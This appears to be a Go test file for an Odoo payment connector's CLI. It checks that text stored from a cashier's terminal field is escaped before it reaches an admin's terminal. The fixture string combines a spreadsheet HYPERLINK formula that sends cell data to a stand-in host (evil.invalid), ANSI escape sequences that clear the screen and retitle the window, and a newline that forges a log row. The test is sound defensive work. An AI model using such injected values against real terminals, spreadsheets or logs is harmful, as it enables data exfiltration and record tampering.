package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/compago-odoo/connector/connector/journal"
)

// What a cashier can write in x_compago_terminal: a formula, escape
// sequences (clear the admin's screen, retitle the window) and a newline
// that forges a row.
const hostileText = "=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"ok\")\x1b[2J\x1b]0;pwned\a\nFAKE  LINE  recorded"

// `intents list` and `intents show` run on the admin's terminal, often as
// root: text from Odoo is shown escaped, never run, and forges no row.
func TestIntentsListAndShowEscapeControlCharacters(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "journal.db")
	j, err := journal.OpenSQLite(context.Background(), path, journal.Options{})
	if err != nil {
		t.Fatal(err)
	}
	a, err := j.Insert(context.Background(), journal.Attempt{OrderID: 7, Seq: 1, ExternalID: "sandbox-7-1", IntentID: "pi-7",
		Terminal: hostileText, Amount: 500000, State: journal.Failed, Reason: "refused", Message: "Compago said: " + hostileText})
	if err != nil {
		t.Fatal(err)
	}
	j.Close()
	config := filepath.Join(dir, "compago-connector.yaml")
	yaml := fmt.Sprintf("odoo: {url: \"http://127.0.0.1:1\", database: sandbox, username: admin, password: pw}\ncompago: {api_key: k}\nstore: {path: %q}\n", path)
	if err := os.WriteFile(config, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"intents", "list"}, {"intents", "show", fmt.Sprint(a.ID)}} {
		var out, errOut bytes.Buffer
		if err := run(context.Background(), append(args, "--config", config), &out, &errOut); err != nil {
			t.Fatalf("%v: %v\n%s", args, err, errOut.String())
		}
		if s := out.String(); strings.ContainsAny(s, "\x1b\a\r") || strings.Contains(s, "\nFAKE") {
			t.Errorf("%v passes control characters to the terminal:\n%q", args, s)
		}
	}
}
